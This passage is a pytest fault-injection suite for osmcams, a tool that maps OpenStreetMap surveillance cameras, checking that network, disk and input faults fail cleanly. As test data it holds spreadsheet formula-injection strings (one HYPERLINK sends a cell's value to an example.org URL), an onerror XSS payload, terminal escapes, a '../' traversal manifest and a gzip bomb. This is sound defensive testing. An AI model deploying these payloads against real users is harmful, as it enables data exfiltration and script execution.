         env={"OSMCAMS_MAX_TRIES": "2", "OSMCAMS_MIN_RETRY_WAIT": "0.01"}),
    Case("one byte every 0.25 s", lambda e: e.count_nice(overpass_url=e.trickle(0.25)),
         ExitCode.NETWORK, "did not send its whole answer within 3 s",
         env={"OSMCAMS_READ_TIMEOUT": "2", "OSMCAMS_DEADLINE": "3"}),
    Case("stall in the middle of the body",
         lambda e: e.count_nice(overpass_url=e.trickle(0, b'{"elements": [')),
         ExitCode.NETWORK, "stopped sending in the middle of its answer (nothing for 1.5 s)",
         env={"OSMCAMS_READ_TIMEOUT": "1.5"}, absent="cannot reach"),
    Case("answer over the size limit", lambda e: e.count_nice(overpass=_huge),
         ExitCode.NETWORK, "larger than 1 MB, the limit set by OSMCAMS_MAX_ANSWER_MB",
         env={"OSMCAMS_MAX_ANSWER_MB": "1"}),
    # issue 21 §12: waits count against the deadline
    Case("Retry-After: 100000",
         lambda e: e.count_nice(overpass=lambda r: _plain("busy", 429, **{"Retry-After": "100000"})),
         ExitCode.NETWORK, "answered 429 TOO MANY REQUESTS; it asks to wait 100,000 s, more than the "
                           "900 s left before the deadline (OSMCAMS_DEADLINE); try later",
         env={"OSMCAMS_MAX_TRIES": "3"}),
    Case("Retry-After: ²",  # float('²'): a traceback
         lambda e: e.count_nice(overpass=lambda r: _plain("busy", 429, **{"Retry-After": "²"})),
         ExitCode.NETWORK, "answered 429 TOO MANY REQUESTS after 2 tries",
         env={"OSMCAMS_MAX_TRIES": "2", "OSMCAMS_MIN_RETRY_WAIT": "0"}),
    *[Case(f"Retry-After: {len(value)} digits, a deadline of {deadline} s",  # float(): 'to wait inf s'
           lambda e, value=value: e.count_nice(
               overpass=lambda r: _plain("busy", 429, **{"Retry-After": value})),
           ExitCode.NETWORK, f"answered 429 TOO MANY REQUESTS; it asks to wait more than a year, {words}",
           absent="inf", env={"OSMCAMS_MAX_TRIES": "3", "OSMCAMS_DEADLINE": deadline})
      for value, deadline, words in (
          ("9" * 400, "900", "more than the 900 s left before the deadline"),
          ("1" * 5000, "1000000000", "more than osmcams waits (600 s); try later"))],
    Case("Retry-After beyond a short deadline",
         lambda e: e.count_nice(overpass=lambda r: _plain("busy", 503, **{"Retry-After": "5"})),
         ExitCode.NETWORK, "answered 503 SERVICE UNAVAILABLE; it asks to wait 5 s, more than the 3 s left",
         env={"OSMCAMS_MAX_TRIES": "3", "OSMCAMS_DEADLINE": "3"}),
    Case("status page: a slot in 100000 seconds",
         lambda e: e.count_nice(status=_status_in(100_000)),
         ExitCode.NETWORK, "has no free slot: its status page asks to wait 100,001 s, more than the "
                           "900 s left before the deadline",
         env={"OSMCAMS_MAX_TRIES": "3"}),
    *[Case(f"status page: a slot in {len(digits)} digits of seconds",  # a traceback: float(int()), int()
           lambda e, digits=digits: e.count_nice(status=_status_in(digits)),
           ExitCode.NETWORK, "has no free slot: its status page asks to wait more than a year, more "
                             "than the 900 s left before the deadline", absent="inf",
           env={"OSMCAMS_MAX_TRIES": "3"})
      for digits in ("9" * 400, "1" * 5000)],
    Case("status page: 5000 digits of free slots",  # int(): a traceback
         lambda e: e.count_nice(status=_status_in(0).replace("Slot available after", f"{'9' * 5000} slots "
                                                               "available now.\nSlot available after"),
                                answer={"elements": [1, 2, 3]}),
         ExitCode.NETWORK, "element 1: is int, not an object"),
    Case("302 on the Overpass POST",
         lambda e: e.count_nice(overpass=lambda r: _plain("", 302, Location="/api/interpreter")),
         ExitCode.NETWORK, "which would turn the POST into a GET: refused"),
    Case("307 to another host",
         lambda e: e.count_nice(overpass=lambda r: _plain("", 307, Location="http://localhost:9/x")),
         ExitCode.NETWORK, "redirected the request to http://localhost:9/x (307), which leaves"),
    Case("credentials in a failing URL",
         lambda e: [*e.count_nice(geo=lambda a: 1 / 0)[:-5], "--geo-api-url",
                    e.services()[1].replace("//", "//user:secret@"), "-q"],
         ExitCode.NETWORK, "answered 500", absent="secret"),
    Case("damaged HTTP cache", lambda e: [*e.count_nice(), "--cache-dir", e.damaged_cache()],
         ExitCode.OK, "was damaged: moved aside"),
    Case("damaged HTTP cache, offline",
         lambda e: ["count", "--commune", "Nice", "--offline", "--cache-dir", e.damaged_cache()],
         ExitCode.NETWORK, "offline: no cached answer"),
    Case("cache directory that is a file", lambda e: e.count_nice(), ExitCode.USAGE,
         "is a file, not a directory", env={"OSMCAMS_CACHE_DIR": "/etc/hostname"}),
    Case("cache directory under a file", lambda e: e.count_nice(), ExitCode.USAGE,
         "cannot create the cache directory", env={"OSMCAMS_CACHE_DIR": "/etc/hostname/cache"}),
    Case("catalogue entry ending in /..",
         lambda e: ["download", "monaco", *e.catalogue("europe/.."), "--dest", e.tmp / "x"],
         ExitCode.NETWORK, "the Geofabrik catalogue names a file that osmcams will not write, '..'"),
    Case("download onto a full disk",
         lambda e: ["download", "monaco", *e.catalogue(), "--dest", _full_disk(e.tmp / "x")],
         ExitCode.DATA, "is full: monaco-latest.osm.pbf.part was deleted"),
    Case("download onto a FIFO",
         lambda e: ["download", "monaco", *e.catalogue(), "--dest",
                    _fifo_at(e.tmp / "x" / "monaco-latest.osm.pbf")],
         ExitCode.USAGE, "monaco-latest.osm.pbf is not a regular file; osmcams will not replace it"),
    Case("download into a directory that cannot be made",
         lambda e: ["download", "monaco", *e.catalogue(), "--dest", e.file() / "x"],
         ExitCode.USAGE, "cannot write in"),
    Case("download larger than the free disk",
         lambda e: ["download", "monaco", *e.catalogue(length=10**15), "--dest", e.tmp],
         ExitCode.DATA, "MB needed plus 67.1 MB kept spare"),
    Case("download announced with a Content-Length of 5,000 digits",  # int(): a traceback
         lambda e: ["download", "monaco", *e.catalogue(length="9" * 5000), "--dest", e.tmp],
         ExitCode.DATA, "MB needed plus 67.1 MB kept spare"),
    Case("misspelt region, second catalogue unreachable",
         lambda e: ["download", "monacco", *e.catalogue()],
         ExitCode.USAGE, "did you mean geofabrik:monaco? (openstreetmap.fr was not searched"),
    Case("unknown region, second catalogue unreachable",
         lambda e: ["download", "saturn", *e.catalogue()],
         ExitCode.NETWORK, "the connection was refused"),
]


def _plain(text: str, status: int, **headers: str) -> Any:
    from werkzeug import Response

    return Response(text, status=status, headers=headers)


def _answer(elements: list[Any]) -> dict[str, Any]:
    """An Overpass answer holding Nice's area, then `elements`."""
    from fake_services import overpass_answer

    return overpass_answer([{"type": "area", "id": 3_600_170_100}, *elements])


def _osc(*created: tuple[Any, ...]) -> str:
    """An osmChange creating the objects `created` (fake_replication.Obj's fields)."""
    from fake_replication import Obj, osc

    return osc(create=[Obj(*fields) for fields in created])


FORMULAS = ('=HYPERLINK("http://example.org/?"&A1,"Voir")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)")


def _csv_rows(path: Path) -> list[dict[str, str]]:
    import csv

    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


def _markdown_is_inert(env: Env) -> bool:
    """No control character, raw tag or broken quote in the Markdown file written at t.md."""
    text = (env.tmp / "t.md").read_text(encoding="utf-8")
    warnings = [line for line in text.splitlines() if "Warning:" in line]
    return (not re.search("[\x00-\x08\x0b-\x1f\x7f]", text) and "<img" not in text
            and len(warnings) >= 2 and all(line.startswith("> **Warning:** ") for line in warnings)
            and sum("(M01)" in line and "Clear\\x1b\\[2J&lt;img" in line for line in warnings) == 2)


def _boundary_tag(env: Env, tag: str, value: str) -> Path:
    """Saint-Barthélemy's extract with its boundary's `tag` (population 9035, name
    Saint-Barthélemy) set to `value` wherever it holds that, as tagged.osm.pbf."""
    from conftest import run_osmium

    opl, pbf = env.tmp / "sbh.opl", env.tmp / "tagged.osm.pbf"
    run_osmium("cat", env.data / "osm/saint-barthelemy/saint_barthelemy.osm.pbf", "-f", "opl", "-o", opl)
    old = {"population": "9035", "name": "Saint-Barthélemy"}[tag]
    escaped = "".join(c if c.isascii() and c.isalnum() else f"%{ord(c):x}%" for c in value)
    text = opl.read_text(encoding="utf-8")
    assert f",{tag}={old}," in text
    opl.write_text(text.replace(f",{tag}={old},", f",{tag}={escaped},"), encoding="utf-8")
    run_osmium("cat", opl, "-o", pbf)
    return pbf


def _comment_bomb(mib: int) -> bytes:
    """A gzipped osmChange holding one comment of `mib` MiB of spaces."""
    import zlib

    deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [deflate.compress(b'<?xml version="1.0"?>\n<osmChange version="0.6"><!--')]
    parts += [deflate.compress(b" " * (1 << 20)) for _ in range(mib)]
    return b"".join([*parts, deflate.compress(b"--></osmChange>\n"), deflate.flush()])


def _streamed_diff(server: Any, chunked: bool) -> None:
    """Publish as sequence 1588 an osmChange of about 2.3 MB gzipped (a comment of 2 MiB of
    random bytes in hexadecimal), sent without Content-Length when `chunked`."""
    import gzip

    comment = os.urandom(2 << 20).hex()
    body = f'<?xml version="1.0"?>\n<osmChange version="0.6"><!-- {comment} --></osmChange>\n'
    server.publish(1588, gzip.compress(body.encode()), "2015-03-25T19:05:08Z")
    server.chunked = chunked


def _state(stamp: str) -> Callable[[Any], object]:
    """Publish an empty diff of sequence 1588 dated `stamp` on a fake_replication.Server."""
    return lambda server: server.publish(1588, _osc(), stamp)


def _status_in(seconds: int | str) -> str:
    """An Overpass status page whose next slot is `seconds` away."""
    from fake_services import status_page

    return status_page(0, 0).replace(", in 0 seconds", f", in {seconds} seconds")


def _huge(request: Any) -> Any:
    """A 3 MB Overpass answer, sent in chunks with no Content-Length."""
    from fake_services import overpass_answer
    from werkzeug import Response

    text = json.dumps(overpass_answer([{"type": "node", "id": i, "lat": 43.7, "lon": 7.2}
                                       for i in range(60_000)]))
    return Response((text[i:i + 65536] for i in range(0, len(text), 65536)),
                    content_type="application/json")


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        out.append((value & 0x7F) | (0x80 if value > 0x7F else 0))
        value >>= 7
        if not value:
            return bytes(out)


def _field(number: int, value: int | bytes) -> bytes:
    """A protobuf field: a varint for an int, length-delimited for bytes."""
    if isinstance(value, int):
        return _varint(number << 3) + _varint(value)
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def _frame(kind: bytes, blob: bytes) -> bytes:
    """A PBF block: its length prefix, its BlobHeader (type, datasize), then `blob`."""
    header = _field(1, kind) + _field(3, len(blob))
    return len(header).to_bytes(4, "big") + header + blob


def _output_in_own_folder(e: Env) -> Path:
    """A replicated configuration whose [output] dir is its own folder, which holds the user's
    communes/mine.geojson."""
    (e.tmp / "communes").mkdir()
    (e.tmp / "communes/mine.geojson").write_text("my boundaries")
    config = e.replicated(diff=True)
    config.write_text(config.read_text().replace('dir = "www"', 'dir = "."'))
    return config


def _own_folder(tmp: Path) -> Path:
    """`tmp/mine`, a folder of a user's pages: index.html and communes/x.html."""
    (tmp / "mine/communes").mkdir(parents=True)
    (tmp / "mine/index.html").write_text("my page")
    (tmp / "mine/communes/x.html").write_text("my page")
    return tmp / "mine"


def _zstd_damaged(frames: list[bytes], at: int) -> list[bytes]:
    """`frames` with the `at`-th block's blob replaced by a zstd frame that is damaged past its
    magic number, of the same block type."""
    kind = b"OSMHeader" if at == 0 else b"OSMData"
    blob = _field(2, 1000) + _field(7, b"\x28\xb5\x2f\xfd" + bytes(range(200)))
    return [*frames[:at], _frame(kind, blob), *frames[at + 1:]]


def _deep_overpass(request: Any) -> Any:
    """An Overpass answer with a tag value nested 100,000 lists deep."""
    return _plain('{"version": 0.6, "osm3s": {"timestamp_osm_base": "2026-01-01T00:00:00Z"}, '
                  '"elements": [{"type": "area", "id": 3600170100}, {"type": "node", "id": 1, '
                  f'"lat": 43.7, "lon": 7.2, "tags": {{"man_made": {DEEP}}}}}]}}', 200)


def _damaged_type(frames: list[bytes]) -> list[bytes]:
    """The third block's type OSMData changed to OSMDbta."""
    return [*frames[:2], frames[2].replace(b"OSMData", b"OSMDbta"), *frames[3:]]


def _reversed(frames: list[bytes]) -> list[bytes]:
    """The header block, then the data blocks in reverse order."""
    return [frames[0], *frames[:0:-1]]


def _forged_commit(out: Path, manifest: str) -> Path:
    """`out` holding the staging directory of a dead run whose commit list is `manifest`,
    beside a file `escape.txt` that a list naming `../escape.txt` would move out."""
    staging = out / ".osmcams-tmp-4194303-forged"
    staging.mkdir(parents=True)
    (staging / ".osmcams-commit.json").write_text(manifest, encoding="utf-8")
    (out / "escape.txt").write_text("stays", encoding="utf-8")
    return out


def _fifo_at(path: Path) -> Path:
    """A FIFO at `path`, which no one reads: its directory."""
    path.parent.mkdir(parents=True)
    os.mkfifo(path)
    return path.parent


def _full_disk(directory: Path) -> Path:
    """A destination whose download part is a link to /dev/full: every write fails, ENOSPC."""
    directory.mkdir()
    (directory / "monaco-latest.osm.pbf.part").symlink_to("/dev/full")
    return directory


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_fault(case: Case, shared_data: Path, tmp_path: Path, httpserver) -> None:
    env = Env(tmp_path, shared_data, httpserver)
    try:
        argv = [str(a) for a in case.argv(env)]
        result = CliRunner(env={"COLUMNS": "200", **case.env}).invoke(cli, argv, catch_exceptions=False)
    finally:
        for close in env.closers:
            close()
    assert result.exit_code == case.code, result.output
    assert "Traceback" not in result.output
    assert case.holds(env)
    assert not case.absent or case.absent not in result.output
    lines = result.stderr.splitlines()
    if case.code == ExitCode.OK:
        assert any(case.words in line for line in lines if line.startswith("warning: ")), result.stderr
    else:
        assert lines and lines[-1].startswith(("osmcams: error: ", "Error: ")), result.stderr
        assert case.words in lines[-1], result.stderr


def test_real_compressed_xml_extracts_are_read(shared_data: Path, tmp_path: Path) -> None:
    """The inflation bound refuses no real extract: Saint-Barthélemy's OSM XML, the shared
    .osm.bz2 and its copy gzipped by osmium, counts the same, 0 cameras (the README's count),
    partly covered as its PBF is (its relation takes in the sea)."""
    from conftest import run_osmium

    bz2 = shared_data / "osm/saint-barthelemy/saint_barthelemy.osm.bz2"
    gz = tmp_path / "sbh.osm.gz"
    run_osmium("cat", bz2, "-o", gz)
    tables = []
    for source in (bz2, gz):
        out = tmp_path / f"{source.name}.csv"
        result = CliRunner().invoke(cli, ["count", "--all", "--admin-level", "3", "--pbf", str(source),
                                          "--include-partial", "-o", str(out), "-q"],
                                    catch_exceptions=False)
        assert result.exit_code == ExitCode.OK, result.output
        tables.append(_csv_rows(out))
    assert tables[0] == tables[1]
    assert [(r["insee"], r["cameras"], r["partial"]) for r in tables[0]] == [("97-7", "0", "True")]


@pytest.mark.parametrize("which", ["first", "last"])
def test_an_xml_extract_with_a_coordinate_that_is_no_number_is_one_line(shared_data: Path, tmp_path: Path,
                                                                         which: str) -> None:
    """The real Saint-Barthélemy .osm.bz2 with its first or last node's lat="x" (osmium
    fileinfo refuses it too): pyosmium's InvalidLocationError, no RuntimeError, went through
    the reading of its header (the first node) or its copy as PBF (the last) as a traceback
    (exit 1); now one line naming the file and the coordinate, exit 4."""
    import bz2
    import subprocess

    text = bz2.decompress((shared_data / "osm/saint-barthelemy/saint_barthelemy.osm.bz2").read_bytes())
    lats = list(re.finditer(rb'<node [^>]*?lat="([^"]*)"', text))
    at = (lats[0] if which == "first" else lats[-1]).span(1)
    bad = text[:at[0]] + b"x" + text[at[1]:]
    xml = tmp_path / "bad.osm.bz2"
    xml.write_bytes(bz2.compress(bad))
    assert subprocess.run(["osmium", "fileinfo", "-e", str(xml)], capture_output=True).returncode != 0
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(cli, ["count", "--all", "--admin-level", "3", "--pbf", str(xml),
                                      "-o", str(out), "-q"], catch_exceptions=False)
    assert result.exit_code == ExitCode.DATA, result.output
    lines = result.output.splitlines()
    assert len(lines) == 1, result.output
    assert lines[0].startswith(f"osmcams: error: {xml}: cannot read OSM data: ")
    assert "'x'" in lines[0]
    assert not out.exists()


CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def test_control_characters_in_a_name_are_shown_in_titles(shared_data: Path, tmp_path: Path,
                                                          httpserver) -> None:
    """Saint-Barthélemy's real boundary named with an escape, a bell, a C1 control and
    markup: the HTML map's <title> held the controls as they are (invalid HTML, a terminal
    escape), the site's pages and feeds the C1 one; each now shows them as \x1b, \x07,
    \x85, as the terminal does, and the markup as text."""
    from xml.etree import ElementTree

    env = Env(tmp_path, shared_data, httpserver)
    name = "Saint\x1b[2J\x07Barth\x85<img src=x onerror=alert(1)>"
    shown = r"Saint\x1b[2J\x07Barth\x85"
    pbf = _boundary_tag(env, "name", name)
    runner = CliRunner()
    page = tmp_path / "t.html"
    result = runner.invoke(cli, ["map", "--all", "--admin-level", "3", "--pbf", str(pbf), "-o", str(page),
                                 "-q"], catch_exceptions=False)
    assert result.exit_code == ExitCode.OK, result.output
    site = '[site]\ndir = "site"\ntitle = "T"\nbase_url = "https://example.org/"\n'
    config = env.replicated(diff=True, extract=pbf, extra=site)
    result = runner.invoke(cli, ["refresh", "--config", str(config), "-q"], catch_exceptions=False)
    assert result.exit_code == ExitCode.OK, result.output
    communes = sorted((tmp_path / "site" / "communes").glob("97-7-*"))
    assert [p.suffix for p in communes] == [".atom", ".html", ".js", ".html"]
    pages = [page, tmp_path / "site" / "index.html", tmp_path / "site" / "feed.atom", *communes]
    for path in pages:
        assert not CONTROLS.search(path.read_text(encoding="utf-8")), path
    titles = {path.name: re.findall("<title>(.*?)</title>", path.read_text(encoding="utf-8"))[0]
              for path in (page, communes[1], communes[3])}
    assert titles == {"t.html": f"Video surveillance mapped in OpenStreetMap: {shown}&lt;img src=x onerror"
                                "=alert(1)&gt;",
                      communes[1].name: f"{shown}&lt;img src=x onerror=alert(1)&gt; — T",
                      communes[3].name: f"Video surveillance mapped in OpenStreetMap: {shown}&lt;img src=x "
                                        "onerror=alert(1)&gt;"}
    feed = ElementTree.parse(communes[0]).getroot()
    assert feed.findtext("{http://www.w3.org/2005/Atom}title") == f"T: {shown}<img src=x onerror=alert(1)>"


def _files(directory: Path) -> dict[str, bytes]:
    return {str(p.relative_to(directory)): p.read_bytes() for p in sorted(directory.rglob("*"))
            if p.is_file() and not p.name.endswith(".lock")}


def test_a_replication_password_stays_out_of_the_store(shared_data: Path, tmp_path: Path, httpserver) -> None:
    """URLs never show a password: history.sqlite, in the published [output] dir by default,
    held the extract's header URL with it; the diffs are still asked for with it."""
    env = Env(tmp_path, shared_data, httpserver)
    config = env.replicated(lambda u: u.replace("//", "//bob:Hunter2Secret@"), diff=True)
    result = CliRunner().invoke(cli, ["refresh", "--config", str(config)], catch_exceptions=False)
    assert result.exit_code == ExitCode.OK, result.output
    assert "Hunter2Secret" not in result.output
    assert env.server.users[-1] == "bob"
    assert [p.name for p in (tmp_path / "www").rglob("*") if b"Hunter2Secret" in _bytes(p)] == []


def test_a_first_refresh_publishes_beside_its_extract_and_history(shared_data: Path, tmp_path: Path,
                                                                  httpserver) -> None:
    """An [output] dir that holds the extract, its .poly and the history store, as a first
    run (or a download of `region`) leaves them, is no folder of the user's: refreshed."""
    env = Env(tmp_path, shared_data, httpserver)
    config = env.replicated(diff=True)
    (tmp_path / "www").mkdir()
    (tmp_path / "sbh.osm.pbf").rename(tmp_path / "www/sbh.osm.pbf")
    (tmp_path / "www/sbh.poly").write_text("sbh\n1\n-62.9 17.8\n-62.7 17.8\n-62.7 18.0\nEND\nEND\n")
    (tmp_path / "www/history.sqlite-journal").write_bytes(b"")
    config.write_text(config.read_text().replace(str(tmp_path / "sbh.osm.pbf"), "www/sbh.osm.pbf"))
    result = CliRunner().invoke(cli, ["refresh", "--config", str(config)], catch_exceptions=False)
    assert result.exit_code == ExitCode.OK, result.output
    assert (tmp_path / "www/communes.csvt").is_file()


def test_a_replication_password_stays_out_of_the_diagnostics(shared_data: Path, tmp_path: Path,
                                                            httpserver) -> None:
    """`-vv` shows the records of every logger: pyosmium's "Replication URL: …" showed the
    extract's header URL whole, its password with it (a process of its own: logging is global)."""
    import subprocess
    import sys

    env = Env(tmp_path, shared_data, httpserver)
    config = env.replicated(lambda u: u.replace("//", "//bob:Hunter2Secret@"), diff=True)
    done = subprocess.run([sys.executable, "-m", "osmcams", "-vv", "refresh", "--config", config],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == ExitCode.OK, done.stderr
    assert f"pyosmium: Replication URL: {env.server.url}" in done.stderr
    assert "Hunter2Secret" not in done.stdout + done.stderr
    assert env.server.users[-1] == "bob"


def test_a_library_log_call_with_wrong_arguments_does_not_end_the_run() -> None:
    """The -v/-vv redaction of URLs formatted each record in a filter, outside logging's own
    error handling: a library's log call with the wrong arguments raised out of it. It is
    reported as logging reports it, and the run goes on; URLs still lose their password."""
    import subprocess
    import sys

    code = ("import logging; from osmcams.cli import main; main(['-vv', 'history', '--help']); "
            "logging.getLogger('lib').info('%d cameras', 'many'); "
            "logging.getLogger('lib').info('from %s', 'https://bob:Hunter2Secret@example.org/x'); "
            "print('went on')")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert "went on" in done.stdout
    assert "--- Logging error ---" in done.stderr
    assert "lib: from https://example.org/x" in done.stderr
    assert "Hunter2Secret" not in done.stderr


def _bytes(path: Path) -> bytes:
    return path.read_bytes() if path.is_file() else b""


@pytest.mark.parametrize("limit", [8192, 65536])  # full before the set is published, or after
def test_refresh_on_a_full_disk_is_one_line_and_changes_nothing(
    shared_data: Path, tmp_path: Path, httpserver, limit: int
) -> None:
    """Issue 21 §9: no file may grow past `limit` bytes (RLIMIT_FSIZE, as a full disk): exit 2
    in one line; the history as it was, the published set the old one or the one the next
    run publishes; and the next run goes ahead."""
    import resource
    import signal
    import sqlite3
    import subprocess
    import sys

    from fake_replication import Obj, osc

    env = Env(tmp_path, shared_data, httpserver)
    config = env.replicated(diff=True)
    assert CliRunner().invoke(cli, ["refresh", "--config", str(config), "-q"]).exit_code == 0
    camera = Obj("node", 20_000_000_001, 1, {"man_made": "surveillance"}, -62.85, 17.90)
    env.server.publish(1589, osc(create=[camera]), "2015-03-25T20:00:00Z")
    www = tmp_path / "www"
    before = _files(www)

    def full() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    done = subprocess.run([sys.executable, "-m", "osmcams", "refresh", "--config", str(config), "-q"],
                          capture_output=True, text=True, preexec_fn=full, timeout=120)
    assert done.returncode == ExitCode.USAGE, done.stderr
    assert done.stderr.startswith("osmcams: error: cannot write ") and done.stderr.count("\n") == 1
    failed = _files(www)
    assert failed["history.sqlite"] == before["history.sqlite"]
    with sqlite3.connect(www / "history.sqlite") as db:
        assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    assert CliRunner().invoke(cli, ["refresh", "--config", str(config), "-q"]).exit_code == 0
    after = _files(www)
    assert after != before and after["history.sqlite"] != before["history.sqlite"]
    assert _published(failed) in (_published(before), _published(after))


def test_a_full_temporary_disk_is_one_line_and_leaves_nothing(shared_data: Path, tmp_path: Path) -> None:
    """A temporary folder on a disk too small (a real tmpfs of 64 kB, mounted in a namespace
    of the test's own) for the blocks copied from a PBF for libosmium: was a traceback; now
    one line ending in the system's reason, exit 2 (an output that cannot be written), and
    nothing left there."""
    import sys

    from conftest import on_small_disk

    mount, pbf = tmp_path / "small", shared_data / "osm/monaco-2025-02-07.osm.pbf"
    mount.mkdir()
    done = on_small_disk("64k", mount, "env", f"TMPDIR={mount}", sys.executable, "-m", "osmcams", "count",
                         "--all", "--pbf", pbf, "-q", "-o", tmp_path / "out.csv", timeout=120)
    assert done.returncode == ExitCode.USAGE, done.stderr
    lines = done.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("osmcams: error: "), done.stderr
    assert "blocks.osm.pbf: No space left on device" in lines[0]
    assert lines[0].endswith(": No space left on device")
    assert done.stdout == ""  # ls -A of the full disk after the run
    assert not (tmp_path / "out.csv").exists()



@pytest.mark.parametrize("suffix", [".osm.bz2", ".osm.gz"])
def test_a_full_temporary_disk_under_the_pbf_copy_of_xml_is_one_line(
    shared_data: Path, tmp_path: Path, suffix: str
) -> None:
    """The real Saint-Barthélemy .osm.bz2, and a .osm.gz of it made here by gzip, copied as
    PBF for libosmium to a temporary folder on a disk too small for the copy (a real tmpfs of
    64 kB, mounted in a namespace of the test's own): after its one line, pyosmium's writer
    aborted the process (exit 134, "terminate called after throwing…"); now the line alone,
    exit 2, and nothing left there. On a disk of 4 MB the same count succeeds and leaves
    nothing either."""
    import bz2
    import gzip
    import sys

    from conftest import on_small_disk

    xml = shared_data / "osm/saint-barthelemy/saint_barthelemy.osm.bz2"
    if suffix == ".osm.gz":
        xml = tmp_path / "saint_barthelemy.osm.gz"
        xml.write_bytes(gzip.compress(bz2.decompress((shared_data / "osm/saint-barthelemy/"
                                                      "saint_barthelemy.osm.bz2").read_bytes())))
    island = [[-63.0, 17.8], [-62.7, 17.8], [-62.7, 18.0], [-63.0, 18.0], [-63.0, 17.8]]
    boundaries = tmp_path / "island.geojson"
    boundaries.write_text(json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"code": "97701", "nom": "Saint-Barthélemy"},
         "geometry": {"type": "Polygon", "coordinates": [island]}}]}))
    mount = tmp_path / "small"
    mount.mkdir()
    for size, code in (("4m", ExitCode.OK), ("64k", ExitCode.USAGE)):
        out = tmp_path / size / "out.csv"
        out.parent.mkdir()
        done = on_small_disk(size, mount, "env", f"TMPDIR={mount}", sys.executable, "-m", "osmcams",
                             "count", "--all", "--pbf", xml, "--boundaries", boundaries, "-q", "-o", out,
                             timeout=120)
        assert done.returncode == code, done.stderr
        assert done.stdout == ""  # ls -A of the disk after the run
        assert out.exists() if code == ExitCode.OK else not any(out.parent.iterdir())
    lines = done.stderr.splitlines()
    assert len(lines) == 1, done.stderr
    assert re.fullmatch(rf"osmcams: error: {re.escape(str(xml))}: cannot copy it as a PBF to "
                        rf"{re.escape(str(mount))}/\.osmcams-tmp-\d+-early-\w+/copy\.osm\.pbf: "
                        "No space left on device",
                        lines[0]), lines[0]

def _published(files: dict[str, bytes]) -> tuple[set[tuple[str, tuple[float, ...]]], set[bytes]]:
    """What a published set says, whatever the order of its lines: its cameras (id and
    place) and the lines of communes.csv."""
    features = json.loads(files["cameras.geojson"])["features"]
    return ({(f["id"], tuple(f["geometry"]["coordinates"])) for f in features},
            set(files["communes.csv"].splitlines()))


def test_a_changed_selection_is_published_at_once(shared_data: Path, tmp_path: Path, httpserver) -> None:
    """Issue 21 §11: with no new diff, changed names, then changed boundaries, rewrite the set."""
    from conftest import run_osmium
    from fake_replication import Server, state_text

    env = Env(tmp_path, shared_data, httpserver)
    server = Server(httpserver, tmp_path / "server")
    pbf = tmp_path / "monaco.osm.pbf"
    run_osmium("cat", env.monaco, "-o", pbf, f"--output-header=osmosis_replication_base_url={server.url}")
    (server.root / "state.txt").write_text(state_text(6462849, "2025-02-07T01:02:45Z"))  # its own
    boundaries = env.border()

    def published(names: list[str]) -> list[str]:
        config = env.config(pbf=pbf, output="www").read_text().replace(
            "all = true\nadmin_level = 3\n", f"names = {json.dumps(names)}\nboundaries = \"{boundaries}\"\n")
        (tmp_path / "osmcams.toml").write_text(config)
        result = CliRunner().invoke(cli, ["refresh", "--config", str(tmp_path / "osmcams.toml")])
        assert result.exit_code == 0, result.output
        report = json.loads((tmp_path / "www" / "communes.json").read_text(encoding="utf-8"))
        return [row["insee"] for row in report["communes"]]

    assert published(["06012"]) == ["06012"]
    assert published(["06012", "06032"]) == ["06012", "06032"]
    assert published(["06012", "06032"]) == ["06012", "06032"]  # nothing new
    box = [[7.41, 43.735], [7.45, 43.735], [7.45, 43.76], [7.41, 43.76], [7.41, 43.735]]
    env.border(lambda features: features["06012"].update(geometry={"type": "Polygon", "coordinates": [box]}))
    report = json.loads((tmp_path / "www" / "communes.json").read_text(encoding="utf-8"))
    assert published(["06012", "06032"]) == ["06012", "06032"]
    redrawn = json.loads((tmp_path / "www" / "communes.json").read_text(encoding="utf-8"))
    # The names are the COG's, whatever the file says: the outline is what changed.
    assert redrawn["communes"][0]["area_km2"] != report["communes"][0]["area_km2"]


@pytest.mark.parametrize("delay", [0.3, 0.8, 1.5])
def test_ctrl_c_ends_a_count_within_2_s(shared_data: Path, tmp_path: Path, delay: float) -> None:
    """Issue 21, low: Ctrl-C early in `count --all` with an empty cache (boundaries and
    samples loading in other threads) ends it within 2 s, by the signal (exit status 130 to
    the shell; 130 itself when the run is stuck past its grace), without a traceback."""
    import signal
    import subprocess
    import sys
    import time

    env = Env(tmp_path, shared_data, None)
    command = [sys.executable, "-m", "osmcams", "count", "--all", "--pbf", str(env.monaco),
               "--boundaries", str(env.ign_06.parent), "-q"]
    child = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
                             env={**os.environ, "OSMCAMS_CACHE_DIR": str(tmp_path / "cache")})
    time.sleep(delay)
    child.send_signal(signal.SIGINT)
    sent = time.monotonic()
    try:
        code = child.wait(10)
    finally:
        child.kill()
    assert time.monotonic() - sent < 2.0
    assert code in (-signal.SIGINT, 130)
    assert "Traceback" not in child.stderr.read()  # type: ignore[union-attr]
